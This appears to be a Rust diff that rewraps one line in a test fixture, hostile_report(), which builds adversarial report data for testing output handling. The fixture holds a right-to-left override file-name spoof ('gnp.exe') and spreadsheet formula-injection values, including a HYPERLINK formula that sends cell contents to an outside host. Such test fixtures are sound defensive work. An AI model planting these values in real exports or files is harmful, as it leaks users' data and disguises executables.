@@ -123,7 +123,8 @@ pub fn hostile_report() -> HuntReport {
         String::new(),
         "one, two".into(),
     ];
-    first.namespaces = vec!["שלום".into(), "漢字漢字".into(), "👩\u{200d}💻".into(), "\u{202e}gnp.exe".into()];
+    first.namespaces =
+        vec!["שלום".into(), "漢字漢字".into(), "👩\u{200d}💻".into(), "\u{202e}gnp.exe".into()];
     first.secrets = vec![format!("prod/{}/{}", "n".repeat(63), "s".repeat(253)), "\tx".into(), "\rx".into()];
     first.request_uris = vec!["=HYPERLINK(\"http://example.com/?\"&A1)".into(), "-2+3".into()];
     let mut second = alert("");
